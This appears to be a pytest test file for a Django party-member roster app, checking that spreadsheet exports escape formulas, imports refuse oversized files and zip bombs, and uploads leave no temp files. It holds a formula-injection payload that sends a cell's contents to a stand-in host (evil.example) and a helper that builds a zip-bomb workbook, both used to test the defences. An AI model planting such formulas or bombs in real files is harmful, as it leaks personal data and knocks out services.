"""Spreadsheets in and out (issue 6, findings 3, 5 and 6): exports never carry a live formula,
imports are bounded before they are parsed, and an upload never stays behind in a temp folder."""

from __future__ import annotations

import io
import os
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import tablib
from django.contrib.admin.sites import site
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from import_export.admin import ExportMixin, ImportMixin

from kit.spreadsheets import (
    SafeCSV,
    SafeXLSX,
    SpreadsheetError,
    escape_csv_cell,
    unescape_csv_cell,
)
from members.models import Member
from members.resources import ROSTER_HEADERS
from tests.members.factories import MemberFactory

FORMULA = '=HYPERLINK("http://evil.example/"&E2,"点我")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_with_formula_start_is_escaped_and_round_trips(start: str) -> None:
    value = f"{start}SUM(A1:A2)"
    assert escape_csv_cell(value) == f"'{value}"
    assert unescape_csv_cell(escape_csv_cell(value)) == value


@pytest.mark.parametrize("value", ["张三", "13812345678", "'引号开头", "", None, 3])
def test_csv_cell_without_formula_start_is_unchanged(value: Any) -> None:
    assert escape_csv_cell(value) == value
    assert unescape_csv_cell(value) == value


def test_xlsx_export_writes_formula_as_text_and_round_trips() -> None:
    dataset = tablib.Dataset(headers=["姓名", "电话"], title="党员花名册")
    dataset.append([FORMULA, "+8613812345678"])
    data = SafeXLSX().export_data(dataset)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "党员花名册"
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == FORMULA
    assert SafeXLSX().create_dataset(data)[0] == (FORMULA, "+8613812345678")


def test_csv_export_escapes_and_import_restores() -> None:
    dataset = tablib.Dataset(headers=["姓名"])
    dataset.append([FORMULA])
    text = SafeCSV().export_data(dataset)
    assert f"'{FORMULA[:10]}" in text
    assert SafeCSV().create_dataset(text)[0] == (FORMULA,)


def test_member_export_in_admin_never_holds_a_live_formula(
    client: Any, tree: Any, secretary_a: Any
) -> None:
    MemberFactory(name=FORMULA, branch=tree.branch_a)
    client.force_login(secretary_a)
    response = client.post(
        reverse("admin:members_member_export"),
        {"format": "0", "resource": "0", **{f"memberrosterresource_{f}": "on" for f in ("name",)}},
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells
    assert all(c.data_type == "s" for c in cells)


def test_export_command_writes_formula_as_text(tree: Any, tmp_path: Path) -> None:
    MemberFactory(name=FORMULA, branch=tree.branch_a)
    call_command("export_members", str(tmp_path / "out.xlsx"))
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert [c.data_type for row in sheet.iter_rows() for c in row if c.value == FORMULA] == ["s"]
    call_command("export_members", str(tmp_path / "out.csv"))
    assert f"'{FORMULA[:10]}" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")


def test_every_admin_import_and_export_uses_the_safe_formats() -> None:
    for model_admin in site._registry.values():
        if isinstance(model_admin, ImportMixin):
            assert set(model_admin.get_import_formats()) <= {SafeXLSX, SafeCSV}, model_admin
        if isinstance(model_admin, ExportMixin):
            assert set(model_admin.get_export_formats()) <= {SafeXLSX, SafeCSV}, model_admin


# --- 5. limits ------------------------------------------------------------------------------------
def _bomb(unpacked_mb: int) -> bytes:
    """A valid-looking .xlsx whose shared strings unpack to `unpacked_mb` MB but zip to little."""
    book = openpyxl.Workbook()
    book.active.append(list(ROSTER_HEADERS))
    out = io.BytesIO()
    book.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("xl/padding.xml", b" " * (unpacked_mb * 1024 * 1024))
    return bomb.getvalue()


def test_xlsx_that_unpacks_past_the_limit_is_refused_before_parsing(settings: Any) -> None:
    settings.IMPORT_MAX_UNPACKED_BYTES = 10 * 1024 * 1024
    data = _bomb(20)
    assert len(data) < 100 * 1024
    with pytest.raises(SpreadsheetError, match="解压后"):
        SafeXLSX().create_dataset(data)


def test_file_over_the_size_limit_is_refused(settings: Any) -> None:
    settings.IMPORT_MAX_UPLOAD_BYTES = 1000
    with pytest.raises(SpreadsheetError, match="文件过大"):
        SafeCSV().create_dataset("姓名\n" + "张三\n" * 500)


def test_rows_and_cells_past_the_limit_are_refused(settings: Any) -> None:
    settings.IMPORT_MAX_ROWS = 3
    with pytest.raises(SpreadsheetError, match="超过 3 行"):
        SafeCSV().create_dataset("姓名\n甲\n乙\n丙\n丁\n")
    settings.IMPORT_MAX_ROWS = 100
    settings.IMPORT_MAX_CELL_CHARS = 10
    book = openpyxl.Workbook()
    book.active.append(["姓名"])
    book.active.append(["长" * 11])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SpreadsheetError, match="第2行第1列"):
        SafeXLSX().create_dataset(out.getvalue())


def test_import_command_refuses_an_oversized_file(settings: Any, tmp_path: Path) -> None:
    from django.core.management.base import CommandError

    settings.IMPORT_MAX_UNPACKED_BYTES = 5 * 1024 * 1024
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_bomb(8))
    with pytest.raises(CommandError, match="解压后"):
        call_command("import_members", str(path))


def _upload(client: Any, data: bytes, name: str = "roster.xlsx") -> Any:
    return client.post(
        reverse("admin:members_member_import"),
        {"format": "0", "resource": "0", "import_file": SimpleUploadedFile(name, data)},
    )


def test_admin_import_refuses_oversized_upload_with_a_chinese_message(
    client: Any, settings: Any, secretary_a: Any
) -> None:
    settings.IMPORT_MAX_UPLOAD_BYTES = 1000
    client.force_login(secretary_a)
    response = _upload(client, b"x" * 2000)
    assert "文件过大" in response.content.decode()
    assert "confirm_form" not in response.context


def test_admin_import_refuses_a_zip_bomb_with_a_chinese_message(
    client: Any, settings: Any, secretary_a: Any
) -> None:
    settings.IMPORT_MAX_UNPACKED_BYTES = 5 * 1024 * 1024
    client.force_login(secretary_a)
    response = _upload(client, _bomb(8))
    assert "解压后" in response.content.decode()


# --- 6. the uploaded roster does not stay behind -------------------------------------------------
def _roster(rows: list[list[Any]]) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(list(ROSTER_HEADERS))
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _temp_files() -> set[str]:
    return set(os.listdir(tempfile.gettempdir()))


def test_failed_preview_leaves_nothing_behind(client: Any, tree: Any, secretary_a: Any) -> None:
    client.force_login(secretary_a)
    before = _temp_files()
    bad = _roster([["张三", "男", "汉族", "1980-01-01", "330102198001011234"] + [""] * 10])
    response = _upload(client, bad)
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    upload = response.context["form"].cleaned_data["import_file"]
    assert cache.get(f"django-import-export-{upload.tmp_storage_name}") is None
    assert _temp_files() - before == set()
    assert not Member.objects.exists()


def test_pending_preview_waits_only_in_the_expiring_cache(
    client: Any, tree: Any, secretary_a: Any, settings: Any
) -> None:
    import datetime as dt

    from members.rules import Gender
    from tests.members.factories import make_citizen_id

    citizen_id = make_citizen_id(dt.date(1980, 1, 1), Gender.MALE, 7)
    row = [
        "张三",
        "男",
        "汉族",
        "1980-01-01",
        citizen_id,
        "",
        "正式党员",
        "2010-07-01",
        "2011-07-01",
        tree.branch_a.code,
        "离退休",
        "",
        "",
        "",
        "",
    ]
    client.force_login(secretary_a)
    before = _temp_files()
    response = _upload(client, _roster([row]))
    assert "confirm_form" in response.context, response.content.decode()[-2000:]
    name = response.context["confirm_form"].initial["import_file_name"]
    assert cache.get(f"django-import-export-{name}") is not None
    assert _temp_files() - before == set()
    assert settings.IMPORT_EXPORT_TMP_STORAGE_CLASS == "kit.spreadsheets.ExpiringCacheStorage"


# --- exports and imports in Chinese (issue 8) ----------------------------------------------------
def test_export_file_is_named_in_chinese_and_the_form_speaks_chinese(
    client: Any, tree: Any, secretary_a: Any
) -> None:
    from urllib.parse import unquote

    from django.utils import timezone

    MemberFactory(branch=tree.branch_a)
    client.force_login(secretary_a)
    url = reverse("admin:members_member_export")
    form = client.get(url).context["form"]
    labels = [str(f.label) for f in form.fields.values()]
    assert "公民身份号码" in labels
    assert not [label for label in labels if "Citizen" in label]
    assert form.fields["format"].initial == "0"
    fields = {name: "on" for name in form.fields if name.startswith("memberrosterresource_")}
    response = client.post(url, {"format": "0", "resource": "0", **fields})
    disposition = unquote(response["Content-Disposition"])
    assert f"党员花名册-甲社区党委-{timezone.localdate().isoformat()}.xlsx" in disposition
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "党员花名册"
    assert sheet.column_dimensions["A"].width >= 8


def test_import_page_offers_a_blank_template_with_the_headers(
    client: Any, tree: Any, secretary_a: Any
) -> None:
    client.force_login(secretary_a)
    page = client.get(reverse("admin:members_member_import")).content.decode()
    assert "下载导入模板" in page
    response = client.get(reverse("admin:members_member_import_template"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[1]] == list(ROSTER_HEADERS)


def test_import_template_needs_the_import_permission(client: Any, reviewer_b: Any) -> None:
    client.force_login(reviewer_b)
    assert client.get(reverse("admin:members_member_import_template")).status_code == 403
